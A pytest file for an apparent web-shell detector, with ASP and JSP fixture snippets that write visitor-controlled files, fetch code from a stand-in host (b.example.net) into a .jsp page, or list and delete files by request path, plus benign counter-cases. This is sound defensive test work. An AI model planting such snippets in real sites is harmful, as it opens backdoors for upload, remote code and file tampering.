from __future__ import annotations

import pytest

from pratique.content.script.storing import Storing


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        (
            "a.asp",
            '<% Set f = o.CreateTextFile(Request("p"))\nf.Write Request("t") %>',
            {"page-writes-request": "sure"},
        ),
        # The name is the visitor's in part only.
        (
            "a.asp",
            '<% Set f = o.CreateTextFile("/srv/up/" & Request("p"))\nf.Write Request("t") %>',
            {"page-writes-request": "hint"},
        ),
        (
            "a.asp",
            '<% Set f = o.OpenTextFile(Request("p"), 8)\nf.Write Request("t") %>',
            {"page-writes-request": "sure"},
        ),
        (
            "a.asp",
            '<% Set f = o.OpenTextFile(Request("p"), ForWriting)\nf.Write Request("t") %>',
            {"page-writes-request": "sure"},
        ),
        (
            "a.jsp",
            '<% FileOutputStream f = new FileOutputStream(request.getParameter("p")); '
            'f.write(request.getParameter("t").getBytes()); %>',
            {"page-writes-request": "sure"},
        ),
        (
            "a.jsp",
            '<% InputStream in = new URL("http://b.example.net/x").openStream(); in.read(b); '
            'FileOutputStream f = new FileOutputStream(request.getParameter("p")); f.write(b); %>',
            {"page-writes-request": "sure"},
        ),
        (
            "a.jsp",
            '<% InputStream in = new URL("http://b.example.net/x").openStream(); in.read(b); '
            'FileOutputStream f = new FileOutputStream("/srv/x.jsp"); f.write(b); %>',
            {"script-runs-remote": "sure"},
        ),
        (
            "a.jsp",
            '<% FileOutputStream f = new FileOutputStream("/srv/x.jsp"); '
            'f.write(request.getParameter("t").getBytes()); %>',
            {"page-writes-request": "sure"},
        ),
        (
            "a.jsp",
            '<% File f = new File(request.getParameter("p")); f.listFiles(); f.delete(); '
            "f.renameTo(g); new FileOutputStream(f); %>",
            {"page-manages-files": "sure"},
        ),
        (
            "a.jsp",
            '<% File f = new File(request.getParameter("p")); f.listFiles(); f.delete(); '
            "new FileInputStream(f); %>",
            {"page-manages-files": "sure"},
        ),
        (
            "a.jsp",
            '<% new File(request.getParameter("p")).listFiles(); '
            'new FileInputStream(request.getParameter("p")); %>',
            {"page-manages-files": "sure"},
        ),
    ],
)
def test_points_at(asked, name, text, expected):
    assert asked(lambda code, flow: Storing(code, flow).all(), name, text) == expected


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.asp", '<% Set f = o.CreateTextFile(Request("p"))\nf.Write "x" %>'),
        ("a.asp", '<% Set f = o.OpenTextFile(Request("p"), 1)\nx = f.ReadAll %>'),
        ("a.asp", '<% Set f = o.OpenTextFile(Request("p"))\nf.Write Request("t") %>'),
        # What cannot be run as a page.
        ("a.asp", '<% Set f = o.CreateTextFile(Request("p") & ".txt")\nf.Write Request("t") %>'),
        (
            "a.jsp",
            '<% FileOutputStream f = new FileOutputStream("/srv/log.txt"); '
            'f.write(request.getParameter("t").getBytes()); %>',
        ),
        # A page that is made of a text of its own, with a word of the visitor in it.
        (
            "a.jsp",
            '<% FileOutputStream f = new FileOutputStream("/srv/x.jsp"); f.write("<html>title: "); '
            'f.write(request.getParameter("t").getBytes()); %>',
        ),
        # A list of the folder that the site has for it.
        ("a.jsp", '<% new File("/srv/up").listFiles(); new File(request.getParameter("p")); %>'),
        (
            "a.jsp",
            '<% new File("/srv/" + request.getParameter("p")).listFiles(); '
            'new FileInputStream("/srv/" + request.getParameter("p")); %>',
        ),
    ],
)
def test_leaves_alone(asked, name, text):
    assert asked(lambda code, flow: Storing(code, flow).all(), name, text) == {}
